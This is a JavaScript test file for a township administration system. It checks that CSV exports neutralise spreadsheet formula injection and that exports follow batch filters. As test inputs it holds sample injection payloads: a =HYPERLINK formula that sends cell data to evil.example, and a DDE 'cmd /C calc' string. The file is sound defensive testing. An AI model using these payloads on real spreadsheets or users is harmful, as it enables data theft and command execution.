// Every CSV export neutralises text a spreadsheet would run as a formula
// (OWASP's rule: a leading single quote before = + - @, tab or carriage
// return), whoever typed it: an anonymous resident's request, a unit's
// name, an indicator's name. XLSX cells stay text (tests/unit/test_xlsx.c).
// And the items export follows the same selection as the list, batch= too.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { startServer, api, freshDataDir, jicengOk } from '../lib/server.js';

const TOWN = '411121100'; // 舞泉镇
const V1 = '411121100201';
const V2 = '411121100202'; // renamed below to a formula
const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我查看")';
let srv;

before(async () => {
  const dir = freshDataDir(['41']);
  const csv = path.join(dir, 'rename.csv');
  fs.writeFileSync(csv, `code,name,parent_code\n${V2},"${EVIL.replace(/"/g, '""')}",${TOWN}\n`);
  jicengOk(['--data', dir, 'import', 'units', csv]);
  srv = await startServer({ dataDir: dir });
});
after(() => srv?.stop());

const send = (p, method, body) => srv.api(p, { method, headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(body) });
const anon = (p, body) => api(srv.url, p, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(body) });
const rows = (body) => body.replace(/^\ufeff/, '').trim().split('\n');

// The cells of a CSV line as written (quoted fields unquoted, "" → ").
function cells(line) {
  const out = [];
  for (let i = 0; i <= line.length;) {
    if (line[i] === '"') {
      let s = '';
      for (i++; i < line.length; i++) {
        if (line[i] === '"' && line[i + 1] === '"') { s += '"'; i++; } else if (line[i] === '"') break; else s += line[i];
      }
      out.push(s);
      i += 2;
    } else {
      const end = line.indexOf(',', i) < 0 ? line.length : line.indexOf(',', i);
      out.push(line.slice(i, end));
      i = end + 1;
    }
  }
  return out;
}

// No cell of any line may start like a formula.
function assertNeutral(body, what) {
  for (const line of rows(body))
    for (const c of cells(line))
      assert.ok(!/^[=+\-@\t\r]/.test(c) || /^-?\d+(\.\d+)?$/.test(c), `${what}: cell ${JSON.stringify(c)} reads as a formula`);
}

test('a resident\'s =HYPERLINK(…) is text in the items ledger', async () => {
  const made = await anon('/api/v1/public/requests', { unit: V1, category: '其他', description: EVIL, location: '+1+cmd|\' /C calc\'!A0' });
  assert.equal(made.status, 201, JSON.stringify(made.body));
  const dispatched = await send('/api/v1/items', 'POST', { type: 'problem', title: '@SUM(1+1)*cmd', unit: V2, measures: '-2+3+cmd', assignee: '\t=1' });
  assert.equal(dispatched.status, 201, JSON.stringify(dispatched.body));
  const csv = await srv.api(`/api/v1/items/export?unit=${TOWN}&format=csv`);
  assert.equal(csv.status, 200);
  assertNeutral(csv.body, 'items export');
  const lines = rows(csv.body).map(cells);
  const resident = lines.find((c) => c[2].includes('HYPERLINK'));
  assert.equal(resident[2], "'" + EVIL, 'the title keeps what the resident typed, behind a quote');
  const item = lines.find((c) => c[0] === String(dispatched.body.id));
  assert.equal(item[2], "'@SUM(1+1)*cmd");
  assert.equal(item[6], "'\t=1");
  assert.equal(item[7], "'-2+3+cmd");
  assert.equal(item[4], "'" + EVIL, 'a unit name too');
  // Stored and shown as typed: only the CSV cell is changed.
  assert.equal((await srv.api(`/api/v1/items/${dispatched.body.id}`)).body.title, '@SUM(1+1)*cmd');
});

test('the monthly review, the ratings ledger and analytics neutralise names', async () => {
  const month = new Date().toISOString().slice(0, 7);
  const review = await srv.api(`/api/v1/items/review?unit=${TOWN}&month=${month}&format=csv`);
  assert.equal(review.status, 200);
  assertNeutral(review.body, 'review');
  assert.ok(rows(review.body).some((l) => cells(l)[2] === "'" + EVIL), 'the renamed village is in the review');

  const ratings = await srv.api(`/api/v1/ratings/summary?scheme=village-2026&unit=${TOWN}&format=csv`);
  assert.equal(ratings.status, 200);
  assertNeutral(ratings.body, 'ratings ledger');
  assert.ok(rows(ratings.body).some((l) => cells(l)[1] === "'" + EVIL));

  const el = await send('/api/v1/elements', 'POST', { code: 'x.count', name: '户数', value_type: 'number', aggregation: 'sum', period_type: 'year' });
  assert.equal(el.status, 201, JSON.stringify(el.body));
  const ind = await send('/api/v1/indicators', 'POST', { code: 'x.evil', name: '=1+1', formula: '#{x.count} - 1' });
  assert.equal(ind.status, 201, JSON.stringify(ind.body));
  assert.equal((await send('/api/v1/values', 'POST', [{ element: 'x.count', unit: V2, period: '2026', value: -5 }])).status, 200);
  const a = await srv.api(`/api/v1/analytics?indicator=x.evil&unit=${TOWN}&period=2026&by=children&format=csv`);
  assert.equal(a.status, 200);
  assertNeutral(a.body, 'analytics');
  const lines = rows(a.body).map(cells);
  assert.equal(lines[0][2], "'=1+1");
  const v2 = lines.find((c) => c[0] === V2);
  assert.deepEqual(v2, [V2, "'" + EVIL, '-6'], 'numbers stay numbers, negative ones too');
});

test('items/export follows batch= like the list', async () => {
  const units = [V1, '411121100203'];
  const batch = await send('/api/v1/items/batch', 'POST', { type: 'dispatch', title: '本周交办：秸秆禁烧巡查', units });
  assert.equal(batch.status, 201, JSON.stringify(batch.body));
  const other = await send('/api/v1/items/batch', 'POST', { type: 'dispatch', title: '另一批', units: [V1] });
  assert.equal(other.status, 201);
  const csv = await srv.api(`/api/v1/items/export?unit=${TOWN}&batch=${batch.body.batch}&format=csv`);
  assert.equal(csv.status, 200);
  const ids = rows(csv.body).slice(1).map((l) => Number(cells(l)[0])).sort();
  assert.deepEqual(ids, batch.body.items.map((i) => i.id).sort(), 'only the batch');
  const list = (await srv.api(`/api/v1/items?unit=${TOWN}&batch=${batch.body.batch}`)).body.items.map((i) => i.id).sort();
  assert.deepEqual(ids, list, 'the same selection as the list');
  for (const bad of ['x', '-1', '1.5'])
    assert.equal((await srv.api(`/api/v1/items/export?unit=${TOWN}&batch=${bad}&format=csv`)).status, 400, bad);
});
